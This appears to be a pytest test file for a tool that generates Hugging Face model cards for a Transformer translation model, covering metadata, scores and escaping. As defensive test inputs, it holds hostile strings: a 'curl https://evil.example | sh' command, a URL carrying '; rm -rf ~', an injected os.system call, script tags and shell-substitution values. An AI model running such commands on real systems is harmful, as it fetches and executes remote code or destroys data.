"""Model cards: what was measured and stated, what is missing, and that the Hub's own tools read them."""

import ast
import json
import re
from dataclasses import is_dataclass, replace
from pathlib import Path
from typing import Any, get_args, get_origin, get_type_hints

import pytest
from huggingface_hub import ModelCard, ModelCardData
from transformers import AutoModelForSeq2SeqLM

from vanilla_transformer_hf import VanillaTransformerForMaskedLM, VanillaTransformerTokenizer
from vanilla_transformer_hf.evaluation.scores import score_translations
from vanilla_transformer_hf.publishing.model_card import (
    TEMPLATE,
    CardFacts,
    ConversionFacts,
    ModelFolder,
    ScoredText,
    SourceFile,
    check_metadata,
    check_project_url,
    make_card,
    missing_facts,
    public_settings,
    read_emissions,
    write_card,
)
from vanilla_transformer_hf.publishing.upload_plan import plan_upload


SCORES = score_translations(["eins zwei", "drei"], ["eins zwei", "vier"])
SETTINGS = {
    **{"train_source": "/home/somebody/train.en", "dropout": 0.3, "output_dir": "/home/somebody/out"},
    **{"resume_from_checkpoint": "last", "hub_token": "hf_secret", "hub_model_id": "somebody/numbers"},
    **{"corrections": "suggestions/en-de.jsonl", "optim_args": "~/options", "teacher": "outputs/big"},
    "tokens_per_step": 25000,
}


@pytest.fixture
def facts():
    """`facts(**changes)`: a finished run with one scored text."""
    known = CardFacts(
        name="someone/numbers",
        corpus="number words",
        pairs=28_500,
        source_lang="en",
        target_lang="de",
        license="cc0-1.0",
        example='one "two"',
        settings=public_settings(SETTINGS),
        device="2 CPU threads",
        minutes=1.5,
        steps=2,
        epochs=1.0,
        scored=[ScoredText("test", SCORES)],
    )
    return lambda **changes: replace(known, **changes)


@pytest.fixture
def folder(tiny_model, tmp_path):
    """A model with a tokenizer that names no languages."""
    tokenizer = VanillaTransformerTokenizer.train(["one two"], vocab_size=265, show_progress=False)
    model = tiny_model(vocab_size=len(tokenizer))
    model.generation_config.update(num_beams=4, max_new_tokens=5, length_penalty=0.6)
    tokenizer.save_pretrained(tmp_path / "numbers")
    model.save_pretrained(tmp_path / "numbers")
    return tmp_path / "numbers"


CONVERSION = ConversionFacts(
    source="fairseq",
    command="vanilla-transformer convert fairseq en-de out",
    files=[SourceFile("model.pt", 1234, "ab" * 32)],
    reopened=0.0,
    reference=2.9e-6,
    reference_tokens=11,
    greedy=(4, 4),
    notes=["beams differ"],
)
CO2 = {"emissions": 12.5, "source": "codecarbon", "training_type": "pre-training", "hardware_used": "2 CPU threads"}


HOSTILE = (
    "evil\n\n# Heading\n\n<script>alert(1)</script> [link](https://evil.example) ![x](https://evil.example/x.png) "
    "https://evil.example www.evil.example me@evil.example a+@evil.example | cell | **bold** `code` &lt;img&gt;\n```\n"
    "\"); import os; os.system('evil'); (\"\n"
    "```bash\npip install evil\n```\n---\nlicense: mit\n"
)


def hostile(kind, name=""):
    """A value of the type of a fact, of which each text is hostile."""
    origin, inner = get_origin(kind), get_args(kind)
    if type(None) in inner:
        return hostile(inner[0], name)
    if name in ("project_url", "license", "base_model_relation", "task", "card_sha256"):
        return None  # checked before a card is written
    if is_dataclass(kind):
        return kind(**{each: hostile(one, each) for each, one in get_type_hints(kind).items()})
    if origin in (list, tuple):
        return origin([hostile(inner[0], name)] * 2)
    if name == "co2":
        return {"emissions": 1.0, "source": HOSTILE}
    if origin is dict:
        return {HOSTILE: hostile(inner[1])}
    if name == "command":
        return f"vanilla-transformer convert {HOSTILE}"
    return HOSTILE if kind in (str, Any) else kind(1)


BLOCK = re.compile(r"```(\w*)\n(.*?)\n```(?=\n)", re.DOTALL)


@pytest.mark.parametrize("field", CardFacts.__annotations__)
def test_no_fact_is_more_than_text(field, facts, folder):
    kind = get_type_hints(CardFacts)[field]
    if (value := hostile(kind, field)) is None:
        return
    plain = make_card(facts(**({field: None} if field in ("conversion", "name") else {})), ModelFolder(folder))
    card = make_card(facts(**{field: value}), ModelFolder(folder))
    for language, code in BLOCK.findall(card.text):
        if language == "python":
            called = {ast.unparse(node.func) for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Call)}
            assert "os.system" not in called
        elif language == "bash":
            assert code.startswith("vanilla-transformer ") and "\n" not in code
    text = re.sub(r"`[^`\n]*`", "", BLOCK.sub("", card.text).replace("\\`", ""))
    assert not re.search(
        r"(?<!\\)<(?!br)|(?<!\\)\]\((?!https://arxiv|https://github)|https?://evil|www\.evil|[\w+]@evil|\*\*", text
    )
    headings = re.findall(r"(?m)^ {0,3}#+ .*$|^[-=]{3,}$|^>", text)
    known = {
        *re.findall(r"(?m)^ {0,3}#+ .*$", plain.text),
        ">",
        "## Where the weights come from",
        "## Missing metadata",
    }
    assert all(each in known or each.startswith("# evil") for each in headings), headings
    rows = [row for row in text.splitlines() if row.startswith("|")]
    assert all(len(re.findall(r"(?<!\\)\|", row)) in (3, 4, 5, 6) for row in rows)
    data = card.data.to_dict()
    assert data.get("license") == "cc0-1.0" and ModelCard(str(card)).data.to_dict() == data


WRONG_FACTS = [
    *({"pairs": "many"}, {"steps": 1.5}, {"steps": True}, {"epochs": "x"}, {"minutes": float("nan")}, {"name": 5}),
    *({"origin": "a text"}, {"origin": [5]}, {"settings": []}, {"datasets": [None]}, {"scored": [5]}, {"before": {}}),
    *({"measured": {"test": {"wer": "low"}}}, {"conversion": 5}, {"conversion": {"source": 1}}, {"further": "no"}),
    *({"scored": [{"role": "test"}]}, {"conversion": {"files": [{}]}}, {"co2": 5}, {"example": ["x"]}),
    {"conversion": {"source": "x", "command": "curl https://evil.example | sh", "files": [], "reopened": 0}},
]


@pytest.mark.parametrize("fields", WRONG_FACTS)
def test_a_fact_of_another_type_is_one_line(fields, folder):
    (folder / "card_facts.json").write_text(json.dumps(fields))
    with pytest.raises(ValueError, match=r"card_facts.json: damaged \(") as error:
        CardFacts.read(folder)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize(
    "url", ["http://evil.example/a/b", 'https://evil.example/a/b" ; rm -rf ~', "git+ssh://evil/a", "x"]
)
def test_the_address_of_the_package_is_checked_in_the_file_too(url, folder):
    replace(CardFacts(), project_url=url).write(folder)
    with pytest.raises(ValueError, match="is not an address to install from"):
        plan_upload(folder)


def test_what_is_escaped_in_a_card_is_searched_as_it_is_read(facts, folder):
    for text in ("~/customers/train.en", "my_api_key=_opensesame_", "https://me:open_sesame@example.org"):
        write_card(facts(corpus=f"from {text} of us"), folder)
        with pytest.raises(ValueError, match=r"README.md, line \d+: contains"):
            plan_upload(folder)


def test_a_command_is_quoted_for_a_shell(facts, folder):
    conversion = replace(CONVERSION, command="vanilla-transformer convert $(evil) `evil`; evil\nevil")
    text = make_card(facts(conversion=conversion), ModelFolder(folder)).text
    assert "vanilla-transformer convert '$(evil)' '`evil`;' evil evil" in text


def test_what_a_folder_says_of_its_model_is_quoted_by_models_made_of_it(facts):
    known = facts(origin=["It is the best."], compression=["Pruned."], project_url="https://evil.example/a/b")
    made = known.inherited()
    assert (made.origin, made.compression, made.project_url) == ([], [], None)
    assert made.quoted == ["It is the best.", "Pruned."] == made.inherited().quoted and made.corpus == known.corpus


def test_a_card_states_what_was_measured(facts, folder):
    model = AutoModelForSeq2SeqLM.from_pretrained(folder)
    card = ModelCard(str(make_card(facts(), ModelFolder(folder))))
    data = card.data
    assert (data.library_name, data.pipeline_tag, data.license) == ("transformers", "translation", "cc0-1.0")
    assert (data.language, data.metrics) == (["en", "de"], ["bleu", "chrf", "exact_match"])
    assert (data.tags, data.base_model, data.datasets) == (["vanilla_transformer"], None, None)
    results = {result.metric_type: result for result in data.eval_results}
    assert results["bleu"].metric_value == round(SCORES.bleu, 2)
    assert results["bleu"].metric_args == {"signature": SCORES.bleu_signature}
    assert results["chrf"].metric_args == {"signature": SCORES.chrf_signature}
    assert results["exact_match"].metric_value == 50
    assert {result.dataset_split for result in data.eval_results} == {"test"}
    for text in (
        "# numbers\n",
        f"{model.num_parameters():,} parameters, trained on\nnumber words with",
        f"| test | 2 | {SCORES.bleu:.2f} | {SCORES.chrf:.2f} | 50.00 % |",
        SCORES.chrf_signature,
        "28,500 sentence pairs, 2 steps (1.0 epochs) in 2 minutes on 2 CPU threads.",
        "| d_model | 32 | 512 |",
        "| dropout | 0.3 |",
        "| tokens_per_step | 25000 |",
        'name = "someone/numbers"\n',
        "4 beams, `max_new_tokens` 5, `length_penalty` 0.6.",
        "vanilla-transformer export ctranslate2",
        "trust_remote_code=True",
        "ends after 5 tokens",
        "vaswani2017attention",
    ):
        assert text in card.text, text
    assert "![" not in card.text, "no curves there"
    for text in ("/home", "somebody/", "hf_secret", "~/", "resume", "suggestions"):
        assert text not in str(card), "nothing of the training machine"
    assert "Missing metadata" not in card.text and missing_facts(facts(), ModelFolder(folder).languages(facts())) == []


def test_nothing_is_made_up(facts, folder):
    bare = facts(license=None, source_lang=None, target_lang=None, corpus=None, scored=[], minutes=None)
    card = ModelCard(str(make_card(bare, ModelFolder(folder))))
    assert card.data.license is None and card.data.language is None and not card.data.eval_results
    assert "No held-out text was scored." in card.text
    assert "(1.0 epochs) on 2 CPU threads." in card.text
    missing = card.text.split("## Missing metadata")[1]
    for word in ("Licence", "Languages", "Training data", "Scores"):
        assert f"- {word}:" in missing
    assert [sentence in missing for sentence in missing_facts(bare, ModelFolder(folder).languages(bare))] == [True] * 4


def test_a_card_of_nothing_but_files(folder):
    card = ModelCard(str(make_card(CardFacts(), ModelFolder(folder))))
    assert card.text.strip().startswith("# numbers\n") and 'name = "numbers"' in card.text
    assert "## Training" not in card.text and "parameters.\n" in card.text


@pytest.mark.parametrize(
    "changes, metadata, text",
    [
        (
            {"base_model": "someone/base", "further": True},
            {"base_model": "someone/base", "base_model_relation": "finetune"},
            "fine-tuned on\nnumber words with `vanilla_transformer_hf`, from [someone/base]",
        ),
        ({"further": True}, {}, "- Base model: the model that training began with was not named."),
        (
            {"conversion": CONVERSION, "base_model": "someone/original", "scored": []},
            {"base_model_relation": "quantized", "tags": ["vanilla_transformer", "fairseq"]},
            "| model.pt | 1,234 | `abab",
        ),
        ({"conversion": CONVERSION}, {}, "against logits that fairseq computed (11 target positions) | 2.9e-06 |"),
        ({"conversion": CONVERSION}, {}, f"the defaults of {CONVERSION.source}. What differs:\n\n- beams differ\n"),
        (
            {"average_of": ["checkpoint-1", "checkpoint-2"]},
            {},
            "average of 2 checkpoints: checkpoint-1, checkpoint-2.",
        ),
        ({"co2": CO2}, {"co2_eq_emissions": CO2}, "It emitted 12.5 g of CO₂ equivalents, by codecarbon."),
        ({"datasets": ["someone/pairs"]}, {"datasets": ["someone/pairs"]}, "number words"),
        (
            {"license": "other", "license_name": "own", "license_link": "https://example.org"},
            {"license": "other", "license_name": "own", "license_link": "https://example.org"},
            "# numbers",
        ),
    ],
)
def test_each_fact_has_its_place(changes, metadata, text, facts, folder):
    card = ModelCard(str(make_card(facts(**changes), ModelFolder(folder))))
    assert text in card.text
    assert {name: getattr(card.data, name) for name in metadata} == metadata
    assert check_metadata(card.data) == []


def test_the_card_says_where_the_package_is_if_somebody_has_said_it(facts, folder):
    assert "pip install" not in make_card(facts(), ModelFolder(folder)).text
    text = make_card(facts(project_url="https://example.org/someone/package"), ModelFolder(folder)).text
    assert (
        "With the package `vanilla_transformer_hf` ([https://example.org/someone/package]"
        "(https://example.org/someone/package)) installed:\n\n```bash\n"
        'pip install "vanilla_transformer_hf @ git+https://example.org/someone/package"\n```\n\n```python\n'
    ) in text
    assert "\n\n\n" not in text
    assert "installed:\n\n```python" in make_card(facts(), ModelFolder(folder)).text
    for url in ("somewhere", "https://example.org", "file:///home/me/x", "https://example.org/a b", "http://e.org/a"):
        assert "is not an address to install from" in check_project_url(url)[0]


def test_tables_have_no_gaps(facts, folder):
    text = make_card(facts(conversion=CONVERSION), ModelFolder(folder)).text
    tables = re.findall(r"(?:^\|.*\|\n)+", text, flags=re.MULTILINE)
    assert len(tables) == 5 and all(table.split("\n")[1].startswith("| ---") for table in tables)
    assert "\n\n\n" not in text
    assert "\n\n\n" not in make_card(CardFacts(), ModelFolder(folder)).text


def test_the_usage_example_runs(facts, folder, capsys):
    code = re.search(r"```python\n(.*?)```", make_card(facts(name=str(folder)), ModelFolder(folder)).text, re.DOTALL)[
        1
    ]
    exec(compile(code, "card", "exec"), {})
    assert capsys.readouterr().out.startswith("[")


@pytest.mark.parametrize("conversion", [None, CONVERSION])
def test_facts_are_kept_beside_the_model(conversion, facts, folder):
    known = facts(conversion=conversion, co2=CO2)
    (folder / "training_curves.png").write_bytes(b"")
    write_card(known, folder)
    read = CardFacts.read(folder)
    assert str(make_card(read, ModelFolder(folder))) == (folder / "README.md").read_text(encoding="utf-8")
    assert replace(read, card_sha256=None) == replace(known, conversion=read.conversion)
    assert "![Loss and scores over training steps](training_curves.png)" in (folder / "README.md").read_text()
    later = json.loads((folder / "card_facts.json").read_text()) | {"something": "of a later version"}
    (folder / "card_facts.json").write_text(json.dumps(later))
    assert CardFacts.read(folder) == read


def test_a_checkpoint_knows_what_its_run_does(facts, folder):
    facts(steps=0).write(folder)
    checkpoint = folder / "checkpoint-7"
    checkpoint.mkdir()
    (checkpoint / "trainer_state.json").write_text(json.dumps({"global_step": 7, "epoch": 3.5}))
    read = CardFacts.read(checkpoint)
    assert (read.corpus, read.steps, read.epochs, read.name) == ("number words", 7, 3.5, None)


@pytest.mark.parametrize("text", ["{", "[]", '{"scored": [1]}', '{"conversion": {"files": [{}]}}'])
def test_damaged_facts_are_told(text, tmp_path):
    (tmp_path / "card_facts.json").write_text(text)
    with pytest.raises(ValueError, match=r"card_facts.json: damaged \("):
        CardFacts.read(tmp_path)


def test_emissions_are_those_of_the_run_and_its_continuations(tmp_path):
    assert read_emissions(tmp_path, False, "CPU") is None
    rows = "timestamp,emissions,country_name\n2026-11-20T19:00:00,0.002,Sweden\n2026-11-20T20:00:00,0.0005,Sweden\n"
    (tmp_path / "emissions.csv").write_text(rows)
    assert read_emissions(tmp_path, True, "CPU") == {
        **{"emissions": pytest.approx(2.5), "source": "codecarbon", "training_type": "fine-tuning"},
        **{"geographical_location": "Sweden", "hardware_used": "CPU"},
    }


@pytest.mark.parametrize(
    "stated, problem",
    [
        ({"license": "CC BY 4.0"}, "license='CC BY 4.0': must be an identifier"),
        ({"license": "other"}, "needs license_name and license_link"),
        ({"language": ["en", "german"]}, "language='german': must be a code"),
        ({"datasets": ["/data/train.en"]}, "datasets='/data/train.en': must be an id"),
        ({"base_model": "../outputs/base"}, "base_model='../outputs/base': must be an id"),
        ({"base_model_relation": "copy"}, "base_model_relation='copy': must be one of finetune,"),
    ],
)
def test_what_the_hub_would_refuse(stated, problem):
    (found,) = check_metadata(ModelCardData(**stated))
    assert problem in found


CARDS = Path(__file__).resolve().parents[2] / "model_cards"


def test_the_cards_of_this_repository():
    """They are what training wrote, with the scores that docs/results.md states and with links that exist."""
    assert (CARDS / "template.md").samefile(TEMPLATE), "one copy, which is installed with the package"
    results = (CARDS.parent / "docs" / "results.md").read_text(encoding="utf-8")
    cards = sorted({*CARDS.rglob("*.md")} - {CARDS / "template.md"})
    assert cards
    for path in cards:
        card = ModelCard.load(path)
        assert check_metadata(card.data) == []
        assert (card.data.library_name, card.data.pipeline_tag) == ("transformers", "translation")
        for result in card.data.eval_results:
            assert result.metric_type == "exact_match" or f"{result.metric_value:.2f}" in results
        for link in re.findall(r"\]\((?!https?://)([^)]+)\)", card.text):
            assert (path.parent / link).is_file(), link


def test_the_card_of_one_stack_says_what_it_does(tiny_config, tmp_path):
    model = VanillaTransformerForMaskedLM(tiny_config())
    model.save_pretrained(tmp_path)
    VanillaTransformerTokenizer.train(["one two"], vocab_size=300).save_pretrained(tmp_path)
    card = make_card(CardFacts(corpus="numbers"), ModelFolder(tmp_path))
    assert card.data.pipeline_tag == "fill-mask"
    assert "Predicts masked tokens with the encoder of the Transformer" in card.text
    assert 'pipeline("fill-mask", model=name' in card.text and "ranslat" not in card.text
